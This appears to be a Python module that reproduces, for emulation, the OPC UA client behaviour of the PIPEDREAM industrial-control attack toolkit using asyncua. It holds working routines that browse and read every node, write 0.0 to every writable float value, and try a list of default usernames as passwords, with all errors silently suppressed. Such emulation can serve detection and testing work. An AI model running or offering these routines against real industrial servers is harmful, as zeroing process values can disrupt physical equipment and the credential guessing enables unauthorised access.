"""OPC UA by asyncua, as PIPEDREAM's client used it: everything browsed, a node written, passwords tried."""

from __future__ import annotations

import asyncio
import contextlib
from typing import TYPE_CHECKING, Final

from asyncua import Client

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

    from asyncua import Node


def _client(to: str) -> Client:
    return Client(f"opc.tcp://{to}:4840", timeout=2)


def _run(do: Callable[[], Awaitable[None]]) -> None:
    async def whole() -> None:
        await do()

    with contextlib.suppress(Exception):  # what a server refuses, a library raises in many ways
        asyncio.run(whole())


async def nodes_below(client: Client, most: int = 60) -> list[Node]:
    """Objects, and what is below it, one level after the other, that many of them."""
    found, waiting = [], [client.nodes.objects]
    while waiting and len(found) < most:
        node = waiting.pop(0)
        with contextlib.suppress(Exception):
            waiting += await node.get_children()
        found.append(node)
    return found


def browsed(to: str) -> None:
    """Everything below Objects, and the value of each."""

    async def do() -> None:
        async with _client(to) as client:
            for node in await nodes_below(client):
                with contextlib.suppress(Exception):
                    await node.read_value()

    _run(do)


def written(to: str) -> None:
    """Every number that may be written, to zero."""

    async def do() -> None:
        async with _client(to) as client:
            for node in await nodes_below(client):
                with contextlib.suppress(Exception):
                    if isinstance(await node.read_value(), float):
                        await node.write_value(0.0)

    _run(do)


def guessed(to: str) -> None:
    """Accounts that many products are delivered with."""
    for user in ("admin", "root", "operator", "opc", "user", "guest", "service", "test"):

        async def do(user: str = user) -> None:
            client = _client(to)
            client.set_user(user)
            client.set_password(user)
            async with client:
                pass

        _run(do)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "ua-browsed": browsed,
    "ua-written": written,
    "ua-guessed": guessed,
}
